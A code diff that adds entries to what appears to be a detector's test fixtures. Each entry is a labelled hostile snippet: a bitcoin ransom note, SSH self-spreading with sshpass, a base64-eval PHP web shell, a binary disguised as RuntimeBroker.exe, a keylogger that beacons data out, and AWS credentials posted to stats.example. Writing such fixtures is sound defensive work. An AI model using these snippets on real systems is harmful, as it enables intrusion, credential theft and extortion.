@@ -97,6 +97,23 @@ FIRES = [
         "files={'document': open(f, 'rb')})\n```",
     ),
     ("cap.ransom-note-file", "```python\nopen(os.path.join(d, 'HOW_TO_DECRYPT.txt'), 'w').write(NOTE)\n```"),
+    ("cap.ransom-note-file", "```python\nNOTE = 'Your files are encrypted. Send 0.3 BTC to get the key.'\n```"),
+    (
+        "cap.spread-over-ssh",
+        "```bash\nfor ip in $(cat hosts); do\n  sshpass -p \"$p\" scp -q \"$0\" root@\"$ip\":/tmp/.s.sh\ndone\n```",
+    ),
+    ("cap.web-shell-decoded", "```php\n<?php $c = base64_decode($_POST['d'] ?? '');\n@eval($c);\n```"),
+    ("cap.masquerade", "```go\n// go build -ldflags \"-H=windowsgui\" -o RuntimeBroker.exe\n```"),
+    (
+        "cap.form-skimmer",
+        "```js\ndocument.addEventListener('keydown', (e) => buf.push(e.key));\n"
+        "setInterval(() => navigator.sendBeacon(ENDPOINT, JSON.stringify(buf)), 10000);\n```",
+    ),
+    (
+        "cap.secret-files-out",
+        "```js\nconst aws = fs.readFileSync(path.join(home, '.aws/credentials'));\n"
+        "https.request({ host: 'stats.example', method: 'POST' }).end(aws);\n```",
+    ),
 ]
 
 
